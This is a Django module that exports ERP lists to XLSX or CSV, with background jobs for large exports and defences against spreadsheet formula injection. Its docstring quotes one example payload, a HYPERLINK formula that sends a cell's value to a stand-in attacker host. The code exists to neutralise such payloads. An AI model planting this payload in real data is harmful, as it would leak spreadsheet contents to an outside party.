"""Export any list to XLSX or CSV with the filters the user applied; every export is logged.

Small exports answer at once. One of more than ``settings.EXPORT_INLINE_ROWS`` rows becomes an
ExportJob: a Celery task replays the same view for the same user (so the same filters and the same
permission scope apply) and writes the file with progress, which the export's page shows until the
file can be downloaded.

Every cell goes through ``cell``, the one place that keeps exported text from acting as a formula when
the file is opened (CSV/formula injection: a customer named ``=HYPERLINK("http://evil.example/?d="&B2,
"Click")``). Text that starts with = + - @, a tab or a carriage return (``FORMULA_PREFIXES``) is written:
- in CSV with an apostrophe before it (``'=HYPERLINK(…)``): a CSV has no cell types, and spreadsheets
  show the apostrophe-led field as text;
- in XLSX unchanged, as a string cell (``t="inlineStr"``), never a formula: Excel and LibreOffice show it
  as text and the file keeps the exact value.
Numbers, dates and empty cells stay what they are (a negative number is a number, not text). The imports
read ``'=…`` back without the apostrophe (``erp.imports.parsers.cell_text``), so an export re-imported
gives the same text, and text starting with = is refused there as a formula.
"""

from __future__ import annotations

import csv
import io
import tempfile
from collections.abc import Callable, Iterator, Sequence
from datetime import date, datetime
from decimal import Decimal
from typing import TYPE_CHECKING, Any, BinaryIO, TypeGuard

from django.conf import settings
from django.contrib import messages
from django.core.files import File
from django.db import transaction
from django.db.models import QuerySet
from django.http import HttpRequest, HttpResponse, HttpResponseRedirect
from django.shortcuts import redirect
from django.utils import timezone
from django.utils.translation import gettext as _
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.utils import get_column_letter
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

from erp.access_log import record_export
from erp.models import ExportJob

if TYPE_CHECKING:
    from django_stubs_ext import StrOrPromise

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
PROGRESS_EVERY = 2000

Rows = QuerySet[Any] | Sequence[Any]  # a list's rows: a queryset, or rows already read
Columns = Sequence[tuple["StrOrPromise", Callable[[Any], object]]]  # (header, function(row) -> value)
CellValue = datetime | date | Decimal | int | float | str | None
# Text starting with one of these is a formula (or DDE) to a spreadsheet opening the file.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def cell(value: object) -> CellValue:
    """The value as a spreadsheet cell: local naive date-times, numbers and dates as they are, anything
    else as text."""
    if isinstance(value, datetime):
        return timezone.localtime(value).replace(tzinfo=None) if timezone.is_aware(value) else value
    if isinstance(value, date | Decimal | int | float) or value is None:
        return value
    return str(value)


def is_formula_like(value: object) -> TypeGuard[str]:
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


def csv_field(value: object) -> object:
    """A cell for the CSV writer: '' for empty; text a spreadsheet would run, after an apostrophe."""
    value = cell(value)
    if value is None:
        return ""
    return "'" + value if is_formula_like(value) else value


def xlsx_cell(sheet: WriteOnlyWorksheet, value: object) -> object:
    """A cell for the XLSX writer: text a spreadsheet would run as a string cell (openpyxl would make
    "=…" a formula); control characters XML cannot hold are dropped (openpyxl refuses them)."""
    value = cell(value)
    if not isinstance(value, str):
        return value
    value = ILLEGAL_CHARACTERS_RE.sub("", value)
    if not is_formula_like(value):
        return value
    text = WriteOnlyCell(sheet, value)
    text.data_type = "s"
    return text


def row_count(rows: Rows) -> int:
    if isinstance(rows, list | tuple):
        return len(rows)
    count: Callable[[], int] | None = getattr(rows, "count", None)  # a queryset counts in the database
    return count() if count is not None else len(rows)


def write_file(*, rows: Rows, columns: Columns, filename: str, fmt: str, target: BinaryIO,
               progress: Callable[[int], object] | None = None) -> None:
    """Write the export to ``target`` (a binary file); ``progress(rows_written)`` every few thousand rows."""
    headers = [str(header) for header, _getter in columns]
    iterable = rows.iterator(chunk_size=2000) if hasattr(rows, "iterator") else rows

    def counted() -> Iterator[Any]:
        for done, row in enumerate(iterable, start=1):
            if progress is not None and done % PROGRESS_EVERY == 0:
                progress(done)
            yield row

    if fmt == "csv":
        text = io.TextIOWrapper(target, encoding="utf-8", newline="", write_through=True)
        text.write("\ufeff")  # Excel opens UTF-8 CSV with Chinese correctly only with a BOM
        writer = csv.writer(text)
        writer.writerow([csv_field(header) for header in headers])
        for row in counted():
            writer.writerow([csv_field(getter(row)) for _header, getter in columns])
        text.detach()
        return
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=filename[:31])
    for index, header in enumerate(headers, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = max(12, len(header) * 2)
    sheet.append([xlsx_cell(sheet, header) for header in headers])
    for row in counted():
        sheet.append([xlsx_cell(sheet, getter(row)) for _header, getter in columns])
    workbook.save(target)


def export_response(request: HttpRequest, *, rows: Rows, columns: Columns, filename: str,
                    fmt: str = "xlsx") -> HttpResponse:
    """``columns``: [(header, function(row) -> value)]; ``fmt``: "xlsx" or "csv"."""
    job = getattr(request, "export_job", None)
    if job is not None:  # replayed by the background task: write the job's file
        return fill_job(job, rows=rows, columns=columns, filename=filename, fmt=fmt)
    total = row_count(rows)
    if total > settings.EXPORT_INLINE_ROWS:
        return start_job(request, filename=filename, fmt=fmt, total=total)
    record_export(request, f"{filename}.{fmt}")
    buffer = io.BytesIO()
    write_file(rows=rows, columns=columns, filename=filename, fmt=fmt, target=buffer)
    response = HttpResponse(buffer.getvalue(), content_type="text/csv; charset=utf-8" if fmt == "csv" else XLSX)
    response["Content-Disposition"] = f'attachment; filename="{filename}.{fmt}"'
    return response


def start_job(request: HttpRequest, *, filename: str, fmt: str, total: int) -> HttpResponseRedirect:
    user = request.user
    assert user.is_authenticated  # the lists are behind a permission
    job = ExportJob.objects.create(user=user, filename=filename, fmt=fmt, path=request.path,
                                   query=request.GET.urlencode(), rows_total=total)
    record_export(request, f"{filename}.{fmt} ({total} rows, in the background)")
    transaction.on_commit(lambda: enqueue_export(job.pk))
    messages.info(request, _("%(rows)s rows: the file is being prepared; this page shows its progress.")
                  % {"rows": f"{total:,}"})
    return redirect("export_detail", pk=job.pk)


def enqueue_export(job_id: int) -> None:
    from erp.tasks import run_export  # erp.tasks imports erp.export_jobs, which imports this module

    try:
        run_export.delay(job_id)
    except Exception:  # broker down: the job stays queued and the beat task picks it up
        pass


def fill_job(job: ExportJob, *, rows: Rows, columns: Columns, filename: str, fmt: str) -> HttpResponse:
    total = row_count(rows)
    ExportJob.objects.filter(pk=job.pk).update(rows_total=total, status=ExportJob.Status.RUNNING)

    def progress(done: int) -> None:
        ExportJob.objects.filter(pk=job.pk).update(rows_done=done)

    with tempfile.TemporaryFile() as spool:  # on disk, not in memory: a ledger export can be 100+ MB
        write_file(rows=rows, columns=columns, filename=filename, fmt=fmt, target=spool, progress=progress)
        spool.seek(0)
        job.refresh_from_db()
        job.file.save(f"{job.pk}-{filename}.{fmt}", File(spool), save=False)
    job.rows_done, job.status, job.finished_at = total, ExportJob.Status.DONE, timezone.now()
    job.save(update_fields=["file", "rows_done", "status", "finished_at"])
    return HttpResponse(status=204)
